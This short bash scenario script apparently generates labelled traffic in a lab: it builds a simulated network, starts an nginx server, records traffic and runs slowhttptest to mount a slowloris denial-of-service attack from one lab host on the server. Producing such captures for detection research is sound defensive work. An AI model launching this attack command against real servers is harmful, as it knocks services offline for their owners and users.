# shellcheck shell=bash
# 10.20.1.14 holds 80 connections of the web server 10.20.1.3 open and sends a header line on each every ten seconds
# (slowloris). The server gives up on a request after a minute.
scene() {
  build_network
  add_lan h14 14
  add_lan h3 3
  start_nginx h3 "listen 80;"
  start_recording
  on h14 timeout 100 slowhttptest -H -c 80 -r 20 -i 10 -l 75 -x 20 -u http://10.20.1.3/page1.html || true
  sleep 2
  stop_recording
}
